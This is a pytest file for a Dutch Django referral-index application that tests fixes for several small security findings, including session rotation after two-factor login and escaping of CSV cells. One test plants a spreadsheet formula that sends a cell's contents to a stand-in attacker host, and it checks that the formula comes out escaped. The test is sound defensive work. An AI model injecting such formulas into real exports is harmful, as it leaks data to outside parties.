"""Issue #16 finding 9, the smaller ones, each as the attack or the mishap it describes."""

import csv
import io

import pytest
from django.conf import settings
from django.core import mail
from django.test import Client
from django.urls import reverse
from django_otp.plugins.otp_static.models import StaticDevice, StaticToken

from api.models import IdempotencyRecord
from signals.models import Signal
from tests.accounts.factories import organisation_coordinator, process_manager, professional
from tests.api.test_place import SIGNALS, place_body
from tests.conftest import client_for
from tests.foundation.conftest import mailbox  # noqa: F401 (fixture)
from tests.persons.factories import YouthFactory
from tests.regions.factories import MunicipalityFactory, OrganisationFactory, RegionFactory
from tests.signals.factories import SignalFactory

pytestmark = pytest.mark.django_db


def test_statistics_csv_cells_that_start_like_a_formula_are_escaped(region):
    formula = '=HYPERLINK("http://aanvaller.example/?"&A1,"klik")'
    MunicipalityFactory(cbs_code="0999", name=formula, region=region)
    client = client_for(process_manager(region), region)
    response = client.get(reverse("reports:statistics_csv"))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    labels = {row[2] for row in rows[1:]}
    # the municipality is shown by name (issue 18), escaped so it is text, never a formula
    assert f"'{formula}" in labels
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_a_region_name_with_a_line_break_does_not_break_invitation_mail(django_capture_on_commit_callbacks):
    region = RegionFactory(slug="flevoland", name="Verwijsindex\nFlevoland")
    coordinator = organisation_coordinator(OrganisationFactory(region=region))
    with django_capture_on_commit_callbacks(execute=True):
        response = client_for(coordinator, region).post(
            reverse("regions:professional_invite"),
            {"email": "nieuw@example.nl", "full_name": "Nieuwe Collega"},
            follow=True,
        )
    (message,) = mail.outbox
    assert "\n" not in message.subject and "Flevoland" in message.subject
    assert any("uitnodiging gestuurd" in str(m) for m in response.context["messages"])


@pytest.mark.django_db(transaction=True)
def test_the_invite_page_does_not_say_sent_when_the_mail_failed(region, settings):
    # committed for real, as in production: the mail is sent when the invitation is committed, within the request
    settings.EMAIL_BACKEND = "django.core.mail.backends.smtp.EmailBackend"
    settings.EMAIL_HOST, settings.EMAIL_PORT, settings.EMAIL_TIMEOUT = "127.0.0.1", 9, 2  # nobody listens there
    coordinator = organisation_coordinator(OrganisationFactory(region=region))
    response = client_for(coordinator, region).post(
        reverse("regions:professional_invite"),
        {"email": "nieuw@example.nl", "full_name": "Nieuwe Collega"},
        follow=True,
    )
    page = response.content.decode()
    assert "kon niet worden verstuurd" in page
    assert not any("uitnodiging gestuurd" in str(m) for m in response.context["messages"])


def test_idempotency_keys_are_stored_only_as_a_keyed_hash(brp, api_a, prof_a):
    key = "plaatsing-999970021-2026"
    response = api_a.post(SIGNALS, place_body(prof_a), headers={"HTTP_IDEMPOTENCY_KEY": key})
    assert response.status_code == 201
    record = IdempotencyRecord.objects.values().get()
    assert key not in str(record) and "999970021" not in str(record)
    # a retry with the same key is still recognised
    again = api_a.post(SIGNALS, place_body(prof_a), headers={"HTTP_IDEMPOTENCY_KEY": key})
    assert again.status_code == 201 and again.json()["id"] == response.json()["id"]


def test_the_session_key_changes_after_the_second_factor(region, professional_user):
    backup = StaticDevice.objects.create(user=professional_user, name="backup", confirmed=True)
    StaticToken.objects.create(device=backup, token="27182818")
    client = Client(HTTP_HOST=f"{region.slug}.localhost")
    client.force_login(professional_user)  # the password step
    before = client.cookies[settings.SESSION_COOKIE_NAME].value
    response = client.post(reverse("accounts:two_factor"), {"token": "27182818"})
    assert response.status_code == 302
    assert client.cookies[settings.SESSION_COOKIE_NAME].value != before


def test_cancelling_the_placing_flow_needs_a_post(region, professional_user, organisation):
    youth = YouthFactory()
    client = client_for(professional_user, region)
    session = client.session
    session["signal_place"] = {"youth_id": youth.pk, "organisation_id": organisation.pk, "step": 2}
    session.save()
    assert client.get(reverse("signals:place_cancel")).status_code == 405
    assert client.session.get("signal_place") is not None


def test_opening_the_placed_page_changes_nothing(region, professional_user, organisation):
    youth = YouthFactory()
    SignalFactory(youth=youth, organisation=OrganisationFactory(region=region), status="archived")
    signal = SignalFactory(youth=youth, organisation=organisation, professional=professional_user)
    client = client_for(professional_user, region)
    assert client.get(reverse("signals:placed", args=[signal.pk])).status_code == 200
    assert Signal.objects.get(pk=signal.pk).archive_shown_at is None


def test_a_session_past_only_the_password_step_cannot_read_the_dev_mailbox(mailbox, region, organisation):  # noqa: F811
    (mailbox / "1700000000000000003-0000abd0.eml").write_bytes(b"Subject: Uitnodiging\n\nlink\n")
    demo_user = professional(organisation)
    demo_user.is_demo = True
    demo_user.save()
    password_only = Client(HTTP_HOST="localhost")
    password_only.force_login(demo_user)
    assert password_only.get(reverse("devmail:list"), REMOTE_ADDR="192.0.2.10").status_code == 403
    verified = client_for(demo_user, region)
    assert verified.get(reverse("devmail:list"), REMOTE_ADDR="192.0.2.10").status_code == 200
